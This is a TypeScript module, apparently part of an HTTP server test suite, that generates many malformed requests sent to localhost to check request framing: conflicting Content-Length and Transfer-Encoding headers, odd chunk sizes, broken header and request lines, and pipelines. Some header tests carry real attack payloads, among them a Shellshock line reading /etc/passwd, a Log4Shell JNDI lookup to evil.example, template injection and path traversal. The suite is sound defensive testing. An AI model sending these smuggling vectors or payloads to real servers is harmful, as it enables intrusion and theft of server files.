/**
 * Requests whose end can be read in two ways (RFC 9112 section 11.2), and
 * broken lines. In the body of each stands a request for the canary: when that
 * is answered, a body was taken for a request.
 *
 * @module
 */

import { type Attack, bytesOf } from "./attack.ts";

const INNER = "GET /canary.txt HTTP/1.1\r\nHost: localhost\r\n\r\n";
/** Follows each body: its answer, or the end of the connection, ends the wait. */
const LAST =
  "GET /public.txt HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n";
const INNER_CHUNK = `${INNER.length.toString(16)}\r\n${INNER}\r\n0\r\n\r\n`;

/** All attacks on framing. */
export function listFramingAttacks(): Attack[] {
  return [
    ...listLengths(),
    ...listCodings(),
    ...listBothFields(),
    ...listChunks(),
    ...listLines(),
    ...listFirstLines(),
    ...listPipelines(),
  ];
}

/** Header lines, a body, and how many answers may come. */
function post(
  name: string,
  lines: readonly string[],
  body: string,
): Attack {
  const head = ["POST /public.txt HTTP/1.1", "Host: localhost", ...lines];
  return {
    name: `framing: ${name}`,
    bytes: bytesOf(`${head.join("\r\n")}\r\n\r\n${body}${LAST}`),
    methods: ["POST", "GET"],
    // Where the body has no end, the last request is part of it.
    waits: true,
  };
}

function listLengths(): Attack[] {
  const n = INNER.length;
  const values = [
    `+${n}`,
    `-${n}`,
    `-0`,
    `${n} `,
    ` ${n}`,
    `\t${n}`,
    `${n},${n}`,
    `${n}, ${n}`,
    `${n},0`,
    `0,${n}`,
    `0, 0`,
    `0x${n.toString(16)}`,
    `0${n}`,
    `00000000000000000000${n}`,
    `${n}.0`,
    `${n}e0`,
    `1e1`,
    `${n};`,
    `"${n}"`,
    `'${n}'`,
    `${n}\0`,
    `\x0b${n}`,
    `${n}\x0c`,
    `\xa0${n}`,
    `${n}abc`,
    `abc`,
    ``,
    ` `,
    `99999999999999999999`,
    `18446744073709551615`,
    `18446744073709551616`,
    `18446744073709551617`,
    `9223372036854775808`,
    `4294967296`,
    `340282366920938463463374607431768211456`,
    "9".repeat(5_000),
    "\xb2\xb3",
    `NaN`,
    `Infinity`,
    `chunked`,
  ];
  const names = [
    "Content-Length",
    "content-length",
    "CONTENT-LENGTH",
    "Content_Length",
    "Content-Length ",
    " Content-Length",
    "Content-Length\t",
    "Content-Length\0",
    "X\r\nContent-Length",
    "\rContent-Length",
    "Content-Length\x0b",
    "Content Length",
    "Content-L\xe9ngth",
  ];
  return [
    ...values.map((value) =>
      post(`length ${shorten(value)}`, [`Content-Length: ${value}`], INNER)
    ),
    ...names.map((name) =>
      post(`length as ${JSON.stringify(name)}`, [
        `Content-Length: ${n}`,
        `${name}: 0`,
      ], INNER)
    ),
    post("two lengths, second longer", [
      "Content-Length: 0",
      `Content-Length: ${n}`,
    ], INNER),
    post("two lengths, first longer", [
      `Content-Length: ${n}`,
      "Content-Length: 0",
    ], INNER),
    post("two equal lengths", [
      `Content-Length: ${n}`,
      `Content-Length: ${n}`,
    ], INNER),
    post("two hundred lengths", [
      ...Array.from({ length: 60 }, () => `Content-Length: ${n}`),
      "Content-Length: 0",
    ], INNER),
    post("length without colon", [`Content-Length ${n}`, "X: y"], INNER),
    post("length of more than comes", [`Content-Length: ${n + 9}`], INNER),
  ];
}

function listCodings(): Attack[] {
  const values = [
    "chunked",
    "Chunked",
    "CHUNKED",
    " chunked",
    "\tchunked",
    "chunked ",
    "chunked\t",
    "chunked,",
    ",chunked",
    "chunked, identity",
    "identity, chunked",
    "identity",
    "chunked, chunked",
    "chunked;q=1",
    "chunked;foo=bar",
    '"chunked"',
    "'chunked'",
    "xchunked",
    "chunkedx",
    "chunk",
    "gzip, chunked",
    "chunked, gzip",
    "gzip",
    "cow",
    "chunked\0",
    "\x0bchunked",
    "chunked\x0b",
    "\xa0chunked",
    "chunked\r\n ",
    "\r\n chunked",
    "\r\n\tchunked",
    "",
    "chunKed\xe9",
    "c\0hunked",
    "deflate, gzip, br, chunked",
    "chunked".repeat(600),
  ];
  const names = [
    "Transfer-Encoding",
    "transfer-encoding",
    "Transfer_Encoding",
    "Transfer-Encoding ",
    " Transfer-Encoding",
    "Transfer-Encoding\t",
    "Transfer-Encoding\0",
    "X\r\nTransfer-Encoding",
    "X\nTransfer-Encoding",
    "\rTransfer-Encoding",
    "Transfer Encoding",
    "Transfer-Encod\xefng",
    "TE",
    "Content-Transfer-Encoding",
  ];
  return [
    ...values.map((value) =>
      post(
        `coding ${JSON.stringify(shorten(value))}`,
        [`Transfer-Encoding: ${value}`],
        INNER_CHUNK,
      )
    ),
    ...names.map((name) =>
      post(`coding as ${JSON.stringify(name)}`, [
        `Content-Length: ${INNER_CHUNK.length}`,
        `${name}: chunked`,
      ], INNER_CHUNK)
    ),
  ];
}

function listBothFields(): Attack[] {
  const attacks: Attack[] = [];
  const spellings = [
    "Transfer-Encoding: chunked",
    "Transfer-Encoding : chunked",
    "Transfer-Encoding:chunked",
    "Transfer-Encoding:\tchunked",
    "Transfer-Encoding: xchunked",
    "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
    "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
    "Transfer-Encoding: chunked\r\nTransfer-encoding: cow",
    "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
    "Transfer-Encoding\n: chunked",
    "Transfer-Encoding:\n chunked",
    "X: y\nTransfer-Encoding: chunked",
    "X: y\r Transfer-Encoding: chunked",
    "tRANSFER-eNCODING: cHUNKED",
  ];
  const lengths = [0, 3, 4, 6, INNER.length, 10_000];
  for (const spelling of spellings) {
    for (const length of lengths) {
      const lines = [`Content-Length: ${length}`, spelling];
      const name = `length ${length} with ${JSON.stringify(spelling)}`;
      attacks.push(post(name, lines, `0\r\n\r\n${INNER}`));
      attacks.push(
        post(`${name}, turned round`, lines.toReversed(), INNER_CHUNK),
      );
    }
  }
  return attacks;
}

function listChunks(): Attack[] {
  const n = INNER.length;
  const hex = n.toString(16);
  const lines = ["Transfer-Encoding: chunked"];
  const sizes = [
    `${hex} `,
    ` ${hex}`,
    `\t${hex}`,
    `+${hex}`,
    `-${hex}`,
    `0x${hex}`,
    `0X${hex}`,
    `${hex}h`,
    `${hex.toUpperCase()}`,
    `0000000000000000000000000${hex}`,
    `${"0".repeat(5_000)}${hex}`,
    `${hex};`,
    `${hex};a`,
    `${hex};a=b`,
    `${hex};a="b"`,
    `${hex};a="b\r\n"`,
    `${hex};a=b\nX`,
    `${hex};${"a".repeat(20_000)}`,
    `${hex};\0`,
    `${hex} ;a=b`,
    `${hex}\t;a=b`,
    `${hex},`,
    `${hex}\r`,
    `${hex}\n`,
    `ffffffffffffffff`,
    `10000000000000000`,
    `fffffffffffffffff${hex}`,
    `100000000000000${hex}`,
    `7fffffffffffffff`,
    `8000000000000000`,
    `ffffffff`,
    `100000000`,
    ``,
    `;`,
    `g`,
    `\xb2`,
    `${n}.`,
    `1e1`,
  ];
  const extension = "1;a=b\r\nx\r\n".repeat(400);
  return [
    ...sizes.map((size) =>
      post(
        `chunk size ${JSON.stringify(shorten(size))}`,
        lines,
        `${size}\r\n${INNER}\r\n0\r\n\r\n`,
      )
    ),
    post("chunk longer than its size", lines, `2\r\n${INNER}\r\n0\r\n\r\n`),
    post("chunk without its end", lines, `${hex}\r\n${INNER}0\r\n\r\n`),
    post("chunk ended by LF", lines, `${hex}\n${INNER}\n0\n\n`),
    post("chunk ended by CR", lines, `${hex}\r${INNER}\r0\r\r`),
    post("chunk ended by two bytes", lines, `${hex}\r\n${INNER}XX0\r\n\r\n`),
    post("chunk size in two lines", lines, `${hex}\r\n\r\n${INNER}\r\n0\r\n`),
    post("trailer with a length", lines, `0\r\nContent-Length: ${n}\r\n\r\n`),
    post("trailer with a host", lines, "0\r\nHost: evil.example\r\n\r\n"),
    post("trailer flood", lines, `0\r\n${"X: y\r\n".repeat(3_000)}\r\n`),
    post("trailer without end", lines, `0\r\nX: ${"y".repeat(100_000)}`),
    post("four hundred extensions", lines, `${extension}0\r\n\r\n`),
    post("ten thousand tiny chunks", lines, "1\r\nx\r\n".repeat(10_000)),
    post("last chunk spelt long", lines, `000;x=y\r\n\r\n`),
    post("last chunk with a sign", lines, `-0\r\n\r\n${INNER}`),
    post("body cut in a chunk", lines, `${hex}\r\n${INNER.slice(0, 9)}`),
  ];
}

/** A request for a public file with one broken line in its head. */
function listLines(): Attack[] {
  const lines: Readonly<Record<string, string>> = {
    "folded": "X: a\r\n b",
    "folded by a tab": "X: a\r\n\tb",
    "folded first": " X: a",
    "space before the colon": "X : a",
    "tab before the colon": "X\t: a",
    "no colon": "X",
    "no name": ": a",
    "only a colon": ":",
    "NUL in the name": "X\0Y: a",
    "NUL in the value": "X: a\0b",
    "control in the name": "X\x01: a",
    "control in the value": "X: a\x01b",
    "escape sequence": "X: \x1b[2J\x1b[31mred",
    "DEL": "X: a\x7f",
    "CR in the value": "X: a\rY: b",
    "LF in the value": "X: a\nY: b",
    "LF LF": "X: a\n\nGET /public.txt HTTP/1.1\nHost: x\n",
    "high bytes": "X: \x80\xff\xfe",
    "invalid UTF-8": "X: \xc0\xaf\xed\xa0\x80",
    "no value": "X:",
    "quotes": 'X: "a',
    "brackets in the name": "(X): a",
    "at in the name": "@: a",
    "Latin name": "\xe9: a",
    "forged log line":
      'User-Agent: x" 200 1\r\nReferer: 127.0.0.1 - - [x] "GET / HTTP/1.1"',
    "upgrade to h2c":
      "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA",
    "upgrade to websocket":
      "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13",
    "expectation": "Expect: 100-continue",
    "unknown expectation": "Expect: 200-ok",
    "connection names all": "Connection: Host, Content-Length, Range, close",
    "TE": "TE: trailers, deflate;q=0.5, chunked",
    "trailer": "Trailer: Host",
    "keep-alive": "Keep-Alive: timeout=99999999999, max=-1",
    "proxy": "Proxy-Connection: keep-alive\r\nProxy: http://evil.example",
    "override": "X-HTTP-Method-Override: DELETE\r\nX-Method-Override: PUT",
    "rewrite":
      "X-Original-URL: /../secret.txt\r\nX-Rewrite-URL: /../secret.txt",
    "sendfile": "X-Sendfile-Type: X-Accel-Redirect\r\nX-Accel-Mapping: /=/etc/",
    "forwarded":
      'X-Forwarded-For: 127.0.0.1\r\nX-Forwarded-Host: evil.example\r\nX-Forwarded-Proto: https\r\nForwarded: for="_x";host=evil.example',
    "shell": "User-Agent: () { :; }; echo; cat /etc/passwd",
    "lookup": "User-Agent: ${jndi:ldap://evil.example/a}",
    "template": "User-Agent: {{7*7}}${7*7}<%= 7*7 %>",
    "accept": "Accept: ".padEnd(9_000, "a/b;q=0.1,"),
    "accept bad": "Accept: application/json;q=NaN,*/*;q=-1,text/html;q=1e9",
    "accept encoding": "Accept-Encoding: *;q=0, gzip;q=2, \xff, identity;q=0",
    "cookie": `Cookie: ${"a=b; ".repeat(2_000)}`,
    "early data": "Early-Data: 1",
  };
  return Object.entries(lines).map(([name, line]): Attack => ({
    name: `line: ${name}`,
    bytes: bytesOf(
      `GET /public.txt HTTP/1.1\r\nHost: localhost\r\n${line}\r\nConnection: close\r\n\r\n`,
    ),
    // RFC 9112 section 2.2 allows to read LF alone as the end of a line.
    methods: name === "LF LF" ? ["GET", "GET", "GET"] : ["GET"],
    waits: true,
  }));
}

function listFirstLines(): Attack[] {
  const heads: Readonly<Record<string, string>> = {
    "no version": "GET /public.txt\r\n\r\n",
    "HTTP/0.9": "GET /public.txt HTTP/0.9\r\n\r\n",
    "HTTP/1.0": "GET /public.txt HTTP/1.0\r\n\r\n",
    "HTTP/1.2": "GET /public.txt HTTP/1.2\r\nHost: a\r\n\r\n",
    "HTTP/2.0": "GET /public.txt HTTP/2.0\r\nHost: a\r\n\r\n",
    "HTTP/3": "GET /public.txt HTTP/3\r\nHost: a\r\n\r\n",
    "HTTP/11": "GET /public.txt HTTP/11\r\nHost: a\r\n\r\n",
    "HTTP/01.1": "GET /public.txt HTTP/01.1\r\nHost: a\r\n\r\n",
    "HTTP/1.1.1": "GET /public.txt HTTP/1.1.1\r\nHost: a\r\n\r\n",
    "http in lower case": "GET /public.txt http/1.1\r\nHost: a\r\n\r\n",
    "HTTPS": "GET /public.txt HTTPS/1.1\r\nHost: a\r\n\r\n",
    "two spaces": "GET  /public.txt HTTP/1.1\r\nHost: a\r\n\r\n",
    "two spaces at the end": "GET /public.txt  HTTP/1.1\r\nHost: a\r\n\r\n",
    "tab": "GET\t/public.txt\tHTTP/1.1\r\nHost: a\r\n\r\n",
    "space before": " GET /public.txt HTTP/1.1\r\nHost: a\r\n\r\n",
    "space after": "GET /public.txt HTTP/1.1 \r\nHost: a\r\n\r\n",
    "space in the target": "GET /public txt HTTP/1.1\r\nHost: a\r\n\r\n",
    "CR in the target": "GET /public\rtxt HTTP/1.1\r\nHost: a\r\n\r\n",
    "blank lines before":
      "\r\n\r\n\r\nGET /public.txt HTTP/1.1\r\nHost: a\r\n\r\n",
    "LF only": "GET /public.txt HTTP/1.1\nHost: a\nConnection: close\n\n",
    "CR only": "GET /public.txt HTTP/1.1\rHost: a\r\r",
    "CR CR LF": "GET /public.txt HTTP/1.1\r\r\nHost: a\r\r\n\r\r\n",
    "no method": " /public.txt HTTP/1.1\r\nHost: a\r\n\r\n",
    "no target": "GET HTTP/1.1\r\nHost: a\r\n\r\n",
    "empty target": "GET  HTTP/1.1\r\nHost: a\r\n\r\n",
    "only a blank line": "\r\n",
    "many blank lines": "\r\n".repeat(20_000),
    "only NUL": "\0".repeat(1_000),
    "random bytes": "\x93\x02\xff\x7f\x1b\x00\xc3\x28\r\n\r\n",
    "TLS hello": "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n",
    "SSH": "SSH-2.0-OpenSSH_9.0\r\n",
    "SMTP": "EHLO localhost\r\nMAIL FROM:<a@b>\r\n",
    "FTP": "USER anonymous\r\nPASS x\r\n",
    "PROXY line":
      "PROXY TCP4 127.0.0.1 127.0.0.1 1 2\r\nGET /public.txt HTTP/1.1\r\nHost: a\r\n\r\n",
    "h2 preface cut": "PRI * HTTP/2.0\r\n\r\nSM",
    "h2 preface wrong": "PRI * HTTP/2.0\r\n\r\nXX\r\n\r\n",
    "byte order mark":
      "\xef\xbb\xbfGET /public.txt HTTP/1.1\r\nHost: a\r\n\r\n",
    "UTF-16": "G\0E\0T\0 \0/\0 \0H\0T\0T\0P\0/\x001\0.\x001\0\r\0\n\0\r\0\n\0",
    "an answer": "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n",
    "half a line": "GET /pub",
    "half a head": "GET /public.txt HTTP/1.1\r\nHost: a\r\nX: ",
    "long line": `GET /${"a".repeat(200_000)}`,
    "long target": `GET /${"a".repeat(60_000)} HTTP/1.1\r\nHost: a\r\n\r\n`,
    "long folder path": `GET /${
      "a/".repeat(20_000)
    } HTTP/1.1\r\nHost: a\r\n\r\n`,
    "long steps": `GET ${"/..".repeat(15_000)} HTTP/1.1\r\nHost: a\r\n\r\n`,
    "long escapes": `GET /${"%20".repeat(15_000)} HTTP/1.1\r\nHost: a\r\n\r\n`,
    "long version": `GET / HTTP/1.${"1".repeat(9_000)}\r\nHost: a\r\n\r\n`,
    "star": "GET * HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n",
    "authority": "GET evil.example:80 HTTP/1.1\r\nHost: a\r\n\r\n",
    "raw UTF-8 target": "GET /\xc3\xbc HTTP/1.1\r\nHost: a\r\n\r\n",
    "raw Latin target": "GET /\xfc HTTP/1.1\r\nHost: a\r\n\r\n",
  };
  return Object.entries(heads).map(([name, head]): Attack => ({
    name: `first line: ${name}`,
    bytes: bytesOf(head),
    methods: ["GET"],
    waits: true,
  }));
}

/** Several requests at once: each has its answer, in order, and no more. */
function listPipelines(): Attack[] {
  const get = (path: string) =>
    `GET ${path} HTTP/1.1\r\nHost: localhost\r\n\r\n`;
  const many = (count: number, path: string): Attack => ({
    name: `pipeline: ${count} of ${shorten(path)}`,
    bytes: bytesOf(get(path).repeat(count) + LAST),
    methods: Array.from({ length: count + 1 }, () => "GET"),
  });
  const bodies = (count: number, line: string, body: string): Attack => ({
    name: `pipeline: ${count} bodies with ${line}`,
    bytes: bytesOf(
      `POST / HTTP/1.1\r\nHost: localhost\r\n${line}\r\n\r\n${body}`
        .repeat(count) + LAST,
    ),
    methods: [...Array.from({ length: count }, () => "POST"), "GET"],
  });
  return [
    ...[1, 2, 10, 100, 500].map((count) => many(count, "/public.txt")),
    ...["/", "/../secret.txt", "/none", "/%zz", "/link-out.txt", "/big.bin"]
      .map((path) => many(20, path)),
    ...[1, 5, 50].flatMap((count) => [
      bodies(count, `Content-Length: ${INNER.length}`, INNER),
      bodies(count, "Transfer-Encoding: chunked", INNER_CHUNK),
      bodies(count, "Content-Length: 3000", INNER.padEnd(3_000, "x")),
      bodies(count, "Content-Length: 0", ""),
    ]),
    {
      name: "pipeline: after a close",
      bytes: bytesOf(LAST + get("/canary.txt")),
      methods: ["GET"],
    },
    {
      name: "pipeline: HEAD and GET in turns",
      bytes: bytesOf(
        `HEAD /big.bin HTTP/1.1\r\nHost: localhost\r\n\r\n${get("/public.txt")}`
          .repeat(20) + LAST,
      ),
      methods: [
        ...Array.from({ length: 40 }, (_, i) => i % 2 === 0 ? "HEAD" : "GET"),
        "GET",
      ],
    },
  ];
}

function shorten(text: string): string {
  return text.length > 40 ? `${text.slice(0, 40)}… (${text.length})` : text;
}
